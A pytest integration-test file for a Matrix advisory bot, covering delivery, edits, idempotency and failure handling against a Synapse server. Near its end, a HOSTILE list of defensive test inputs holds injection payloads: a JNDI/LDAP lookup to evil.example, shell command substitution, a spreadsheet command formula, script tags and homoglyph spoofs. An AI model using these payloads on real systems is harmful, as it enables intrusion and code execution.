"""Sending to a real homeserver: what arrives, that nothing arrives twice, and what each refusal does to the ledger."""

from __future__ import annotations

import asyncio
import logging
from collections.abc import Awaitable, Callable
from dataclasses import replace
from datetime import datetime, timedelta
from itertools import count
from typing import Any  # JSON, as the wire has it

import pytest
from sqlalchemy import select

from bot.channels.base import ChannelError, Gone, Refused
from bot.channels.cards import Cards
from bot.channels.matrix import Homeserver, MatrixChannel
from bot.channels.matrix.errors import Limited
from bot.deliver import Deliverer
from bot.folding import Folder
from bot.messages.compose import Composer
from bot.messages.model import freeze, make_message
from bot.messages.safe import undefused
from bot.outbox import enqueue_changes
from storage import delivery
from storage import delivery_settings as wishes
from storage.changes import add_changes
from storage.delivery import DueDestination
from storage.delivery_tables import attempts, deliveries
from storage.store import Store
from storage.tables import operator_notes
from tests.advisories.test_filters import DRAFT, KEV, NOW
from tests.bot.channels.matrix.test_text import read_back
from tests.servers.fault_proxy import Fault, fault_proxy
from tests.servers.synapse import Person, Synapse

pytestmark = pytest.mark.server
COMPOSER = Composer(base_url="https://board.example", titles={"copy-fail": "Copy Fail"})
NUMBERS = count(1)


@pytest.fixture(scope="module")
def alice(synapse: Synapse) -> Person:
    return synapse.person("alice")


@pytest.fixture(scope="module")
def bot(synapse: Synapse) -> Person:
    return synapse.person("bot")


@pytest.fixture
def room(alice: Person, bot: Person) -> str:
    """A new room of alice's, with the bot."""
    made = alice.create_room(bot.user)
    bot.join(made)
    return made


def with_channel(url: str, bot: Person, use: Callable[[MatrixChannel], Awaitable[None]], **more: Any) -> None:
    """Uses a channel of its own, as a new process has it."""

    async def run() -> None:
        channel = MatrixChannel(Homeserver(url, bot.user, more.pop("token", bot.token), timeout=20), **more)
        try:
            await use(channel)
        finally:
            await channel.close()

    asyncio.run(run())


def at(room: str, thread: str = "") -> DueDestination:
    return DueDestination(id=1, kind="matrix", address=room, thread=thread)


def new_id() -> str:
    return f"message-{next(NUMBERS)}"


def owe(store: Store, room: str, *drafts: Any, also: tuple[str, ...] = ()) -> None:
    """Changes for a subscriber in this room, and in others."""
    with store.write() as connection:
        for each in (room, *also):
            one = delivery.ensure_destination(connection, kind="matrix", address=each, now=NOW)
            delivery.add_subscription(connection, one, "copy-fail debian/12", now=NOW)
        enqueue_changes(connection, add_changes(connection, drafts or [DRAFT]), now=NOW)


def deliver(store: Store, url: str, bot: Person, *minutes: int, **more: Any) -> None:
    """A round of delivering and card keeping at each of these minutes."""

    async def rounds(channel: MatrixChannel) -> None:
        for one in minutes:
            moment = NOW + timedelta(minutes=one)

            def now(moment: datetime = moment) -> datetime:
                return moment

            deliverer = Deliverer(store, {"matrix": channel}, folder=Folder(COMPOSER, waited=True), clock=now)
            await deliverer.deliver_due()
            await Cards(store, deliverer.channels, COMPOSER, clock=now).repair()

    with_channel(url, bot, rounds, **more)


def answers(store: Store) -> list[str]:
    with store.read() as connection:
        return list(connection.execute(select(attempts.c.answer).order_by(attempts.c.id)).scalars())


def states(store: Store) -> list[str]:
    with store.read() as connection:
        return list(connection.execute(select(deliveries.c.state).order_by(deliveries.c.id)).scalars())


def notes(store: Store) -> list[str]:
    with store.read() as connection:
        return list(connection.execute(select(operator_notes.c.text).order_by(operator_notes.c.note_id)).scalars())


def test_a_card_its_thread_and_its_edit(store: Store, synapse: Synapse, bot: Person, room: str) -> None:
    """The first news is the card, with a sound; what wakes answers in its thread; the card is edited in place."""
    owe(store, room)
    deliver(store, synapse.url, bot, 0)
    owe(store, room, replace(KEV, text="Exploited: listed in KEV", source="kev"))
    with store.write() as connection:
        (card,) = wishes.stale_cards(connection, ["matrix"], now=NOW)
        wishes.save_card(connection, replace(card[0], shown="before"))
        wishes.age_cards(connection, ["PW-2026-1"])
    deliver(store, synapse.url, bot, 11)
    events = [one for one in bot.timeline(room) if one["type"] == "m.room.message"]
    first, answer, edit = (one["content"] for one in events)
    link = '<a href="https://board.example/advisories/PW-2026-1"><strong>CVE-2026-31431</strong></a>'
    assert first == {
        "msgtype": "m.text",
        "body": "Copy Fail\nCVE-2026-31431 CVE-2026-31431\nFixed upstream in 6.12.85\n"
        "Debian 12: linux fixed 6.1.170-1\n• Zero-copy fixed in Debian 12 (debian)",
        "format": "org.matrix.custom.html",
        "formatted_body": f"<strong>Copy Fail</strong><br>{link} CVE-2026-31431<br>"
        "Fixed upstream in 6.12.85<br>"
        "Debian 12: <code>linux</code> fixed 6.1.170-1<br>• Zero-copy fixed in Debian 12 (debian)",
        "m.mentions": {},
    }
    assert answer == {
        "msgtype": "m.text",
        "body": "Copy Fail\nCVE-2026-31431\n• Exploited: listed in KEV (kev)",
        "format": "org.matrix.custom.html",
        "formatted_body": f"<strong>Copy Fail</strong><br>{link}<br>• Exploited: listed in KEV (kev)",
        "m.mentions": {},
        "m.relates_to": {
            "rel_type": "m.thread",
            "event_id": events[0]["event_id"],
            "is_falling_back": True,
            "m.in_reply_to": {"event_id": events[0]["event_id"]},
        },
    }
    assert (edit["msgtype"], edit["m.mentions"]) == ("m.notice", {})
    assert edit["m.relates_to"] == {"rel_type": "m.replace", "event_id": events[0]["event_id"]}
    assert edit["m.new_content"]["body"].endswith("Debian 12: linux fixed 6.1.170-1")
    assert set(states(store)) == {"sent"}


def test_the_same_transaction_is_one_event(synapse: Synapse, bot: Person, room: str) -> None:
    """A repeat under the message's id, from another process too, is the event that is there already."""
    content, message, found = freeze(make_message("Copy Fail", ["fixed"])), new_id(), []

    async def send(channel: MatrixChannel) -> None:
        found.extend([await channel.send(at(room), message, content) for _ in range(2)])

    with_channel(synapse.url, bot, send)
    with_channel(synapse.url, bot, send)
    assert len(set(found)) == 1
    assert [one["body"] for one in bot.messages(room, bot.user)] == ["Copy Fail\nfixed"]


def test_silent_messages_are_notices(synapse: Synapse, bot: Person, room: str) -> None:
    """Without a sound means m.notice; in a destination's own thread everything stays in it."""
    content = freeze(replace(make_message("T", []), silent=True, reply_to="$other"))

    async def send(channel: MatrixChannel) -> None:
        root = await channel.send(at(room), new_id(), freeze(make_message("Root", [])))
        await channel.send(at(room, root or ""), new_id(), content)

    with_channel(synapse.url, bot, send)
    root, said = (one for one in bot.timeline(room) if one["type"] == "m.room.message")
    assert said["content"]["msgtype"] == "m.notice"
    assert said["content"]["m.relates_to"] == {
        "rel_type": "m.thread",
        "event_id": root["event_id"],
        "is_falling_back": False,
        "m.in_reply_to": {"event_id": "$other"},
    }


def test_an_answer_to_a_lost_event_goes_without_it(synapse: Synapse, bot: Person, room: str) -> None:
    """A thread that cannot be (its root is in a room that was replaced) does not hold the news up."""

    async def send(channel: MatrixChannel) -> None:
        await channel.send(at(room), new_id(), freeze(replace(make_message("News", []), reply_to="$elsewhere")))

    with_channel(synapse.url, bot, send)
    assert [one.get("m.relates_to") for one in bot.messages(room, bot.user)] == [None]


def test_editing_what_is_gone(synapse: Synapse, bot: Person, room: str) -> None:
    """A card that was deleted, or never was, is gone; the edit of one that is there counts once per text."""
    content, others = freeze(make_message("Card", ["1"])), freeze(make_message("Card", ["2"]))

    async def edit(channel: MatrixChannel) -> None:
        card = await channel.send(at(room), new_id(), content) or ""
        for each in (others, content, others):
            await channel.edit(at(room), card, each)
        bot.call("PUT", "rooms", room, "redact", card, "r1", body={})
        for lost in (card, "$never"):
            with pytest.raises(Gone):
                await channel.edit(at(room), lost, content)

    with_channel(synapse.url, bot, edit)
    edits = [one["m.new_content"]["body"] for one in bot.messages(room, bot.user)]
    assert edits == ["Card\n2", "Card\n1", "Card\n2"]


def test_a_message_that_is_too_large_is_shortened(synapse: Synapse, bot: Person, room: str) -> None:
    """Seventy kilobytes arrive as an event that fits, with a link to the rest; so does the edit."""
    message = make_message("T", ["é" * 600 for _ in range(60)])
    content = freeze(message)

    async def send(channel: MatrixChannel) -> None:
        card = await channel.send(at(room), new_id(), content) or ""
        await channel.edit(at(room), card, content)

    with_channel(synapse.url, bot, send)
    sent, edit = bot.messages(room, bot.user)
    assert 10_000 < len(sent["body"]) < 36_000
    assert sent["body"].endswith("\n… shortened")
    assert edit["m.new_content"]["body"].endswith("\n… shortened")


def test_a_room_that_put_the_bot_out(store: Store, synapse: Synapse, alice: Person, bot: Person, room: str) -> None:
    """Kicked: the destination is disabled with the homeserver's reason and the operator told; others get theirs."""
    other = alice.create_room(bot.user)
    bot.join(other)
    owe(store, room, also=(other,))
    alice.call("POST", "rooms", room, "kick", body={"user_id": bot.user})
    deliver(store, synapse.url, bot, 0)
    with store.read() as connection:
        found = [(one.state, one.reason) for one in wishes.list_destinations(connection)]
    reason = f"M_FORBIDDEN User {bot.user} not in room {room}"
    assert found == [("disabled", reason), ("active", None)]
    assert notes(store) == [f"matrix destination 1 is disabled: {reason}"]
    assert len(alice.messages(other, bot.user)) == 1


def test_a_room_where_the_bot_may_not_speak(synapse: Synapse, alice: Person, bot: Person, room: str) -> None:
    """Muted by power levels is refused as well."""
    power = alice.get_state(room, "m.room.power_levels")
    alice.set_state(room, "m.room.power_levels", {**power, "events_default": 50})

    async def send(channel: MatrixChannel) -> None:
        with pytest.raises(Refused, match="M_FORBIDDEN"):
            await channel.send(at(room), new_id(), freeze(make_message("T", [])))

    with_channel(synapse.url, bot, send)


def test_a_replaced_room_waits(store: Store, synapse: Synapse, alice: Person, bot: Person, room: str) -> None:
    """A room that was upgraded is not disabled: the operator is told once, the news are kept; after weeks it is."""
    owe(store, room)
    alice.call("POST", "rooms", room, "upgrade", body={"new_version": "12"})
    successor = alice.get_state(room, "m.room.tombstone")["replacement_room"]
    said: list[str] = []
    deliver(store, synapse.url, bot, 0, 120, note=said.append)
    assert (states(store), answers(store)) == (["pending"], ["notsent", "notsent"])
    told = f"Matrix room {room} was replaced by {successor}: an administrator of the new room must invite the bot"
    assert said == [told]
    late = NOW.timestamp() + 10 * 365 * 86_400
    deliver(store, synapse.url, bot, 600, clock=lambda: late)
    assert states(store) == ["rejected"]


def test_default_limits(synapse: Synapse, alice: Person) -> None:
    """At Synapse's default rc_message the burst ends with a wait that is the homeserver's own, for all rooms."""
    slow = synapse.person("slow", limited=True)
    one, two = (alice.create_room(slow.user) for _ in range(2))
    slow.join(one)
    slow.join(two)
    sent: list[str] = []

    async def send(channel: MatrixChannel) -> None:
        with pytest.raises(Limited) as caught:
            for number in range(20):
                sent.append(await channel.send(at(one), f"burst-{number}", freeze(make_message("T", []))) or "")
        assert 0 < caught.value.retry_after <= 10
        assert 0 < channel.wait_seconds(at(two)) <= caught.value.retry_after
        await channel.ready(at(two))
        await channel.send(at(two), "burst-two", freeze(make_message("T", [])))

    with_channel(synapse.url, slow, send)
    assert len(alice.messages(one, slow.user)) == len(sent) <= 11
    assert len(alice.messages(two, slow.user)) == 1


def test_a_revoked_token_keeps_the_queue(
    store: Store, synapse: Synapse, bot: Person, room: str, caplog: pytest.LogCaptureFixture
) -> None:
    """With a wrong token nothing is lost, the operator is told once, and the token is in no log, error or row."""
    caplog.set_level(logging.DEBUG)
    wrong = "syt_Y2FuYXJ5_CanaryCanaryCanary_000000"
    owe(store, room)
    deliver(store, synapse.url, bot, 0, 1, token=wrong)
    assert states(store) == ["pending"]
    assert len(notes(store)) == 1
    with store.read() as connection:
        texts = list(connection.execute(select(attempts.c.text)).scalars())
    said = "".join([*notes(store), *texts, caplog.text])
    assert "Canary" not in said
    assert bot.token not in said
    deliver(store, synapse.url, bot, 10)
    assert states(store) == ["sent"]


@pytest.mark.parametrize("fault", [Fault(cut_at=0), Fault(cut_at=20), Fault(reset_at=0)])
def test_a_cut_answer_is_repeated_as_one_event(
    store: Store, synapse: Synapse, bot: Person, room: str, fault: Fault
) -> None:
    """The event was taken, the answer lost: the repeat under the same transaction makes no second one."""
    owe(store, room)
    with fault_proxy("127.0.0.1", synapse.port) as proxy:
        proxy.fault = fault
        deliver(store, f"http://127.0.0.1:{proxy.port}", bot, 0)
        proxy.fault = Fault()
        deliver(store, f"http://127.0.0.1:{proxy.port}", bot, 2)
    assert answers(store) == ["unknown", "sent"]
    assert len(bot.messages(room, bot.user)) == 1


def test_kill_9_of_the_homeserver(synapse: Synapse, bot: Person, room: str) -> None:
    """Killed amid forty messages: what was open is sent again under its id, and each is there exactly once."""
    lost: list[int] = []

    async def send(channel: MatrixChannel, number: int) -> None:
        content = freeze(make_message(f"T{number}", []))
        await channel.send(at(room), f"kill-{number}", content)
        if number == 3:
            await asyncio.to_thread(synapse.kill)

    async def all_of(channel: MatrixChannel) -> None:
        room_for = asyncio.Semaphore(4)

        async def one(number: int) -> None:
            async with room_for:
                try:
                    await send(channel, number)
                except ChannelError:
                    lost.append(number)

        await asyncio.gather(*(one(number) for number in range(40)))

    async def again(channel: MatrixChannel) -> None:
        for number in [*lost, *range(4)]:
            await channel.send(at(room), f"kill-{number}", freeze(make_message(f"T{number}", [])))

    try:
        with_channel(synapse.url, bot, all_of)
    finally:
        synapse.kill()
        synapse.start()
    assert lost
    with_channel(synapse.url, bot, again)
    assert sorted(one["body"] for one in bot.messages(room, bot.user)) == sorted(f"T{number}" for number in range(40))


MENTIONS = (
    "@room",
    "@everyone @here",
    "@bob",
    "bob",
    "@bob:localhost",
    "<!channel>",
    "[x](tg://user?id=1)",
    "https://matrix.to/#/@bob:localhost",
)


def test_mentions_raise_nobodys_count(synapse: Synapse, alice: Person, bot: Person) -> None:
    """Who wants to hear of mentions only hears nothing of these strings, from a bot that could ping the room."""
    bob = synapse.person("bob")
    room = alice.create_room(bot.user, bob.user, power_level_content_override={"users": {bot.user: 100}})
    for one in (bot, bob):
        one.join(room)
    bob.call("PUT", "pushrules", "global", "room", room, body={"actions": []})

    async def send(channel: MatrixChannel) -> None:
        for text in MENTIONS:
            await channel.send(at(room), new_id(), freeze(make_message(text, [text])))

    def counts() -> dict[str, Any]:
        found: dict[str, Any] = bob.call("GET", "sync")["rooms"]["join"][room]["unread_notifications"]
        return found

    with_channel(synapse.url, bot, send)
    assert len(bob.messages(room, bot.user)) == len(MENTIONS)
    assert counts() == {"notification_count": 0, "highlight_count": 0}
    alice.say(room, "bob", **{"m.mentions": {"user_ids": [bob.user]}})
    assert counts() == {"notification_count": 1, "highlight_count": 1}


HOSTILE = (
    "CVE-2026-\u202e31431",
    "CVE-2026\u200b-31431",
    "\u0421VE-2026-31431",
    "CVE\u20112026\u201131431",
    "CVE-\u0662\u0660\u0662\u0666-31431 \uff12",
    "xn--gt-fka.kerneI.org git.kerneI.org",
    "https://git.kernel.org@evil.example/",
    "nul \x00 \x08 \x0b \x1b \ufffe",
    "Z" + "\u0301" * 10_000,
    "\x1b[31mred\x1b[0m",
    "first\n2026-05-01 ERROR faked",
    "@room @everyone @here @bob <!channel> [x](tg://user?id=1) https://matrix.to/#/@bob:localhost",
    "[safe](evil) ![](beacon) ||spoiler|| * ` _",
    "<a@b.c>",
    "a < b && c > d",
    "<p>x</p><ul><br><script>alert(1)</script><mx-reply>y</mx-reply>",
    "- . ! & &amp; &lt;b&gt;",
    "x" * 4090 + "\U0001f9df\u200d\u2640\ufe0f",
    "y" * 40_960,
    "=cmd|' /C calc'!A0",
    "$(id) ${jndi:ldap://evil.example/a} {{7*7}}",
    '" onclick="x" data-mx-maths="x"',
)


def test_hostile_text_arrives_as_text(store: Store, synapse: Synapse, bot: Person, room: str) -> None:
    """Text tricks in a change: what arrives has our tags only and, read back, equals the plain text."""
    drafts = [replace(DRAFT, text=one, field=f"f{number}") for number, one in enumerate(HOSTILE)]
    owe(store, room, *drafts)
    deliver(store, synapse.url, bot, 0)
    said = bot.messages(room, bot.user)
    whole = ""
    for one in said:
        text, tags, links = read_back(one)
        assert text == undefused(one["body"])
        assert tags <= {"strong", "code", "a"}
        assert links <= {"https://board.example/advisories/PW-2026-1"}
        assert one["m.mentions"] == {}
        whole += text
    for shown in ("\\u{202E}", "\\u{200B}", "[safe](evil)", "a < b && c > d", "<script>", "{{7*7}}"):
        assert shown in whole
    assert whole.count("(debian)") + whole.count("…") == len(HOSTILE)
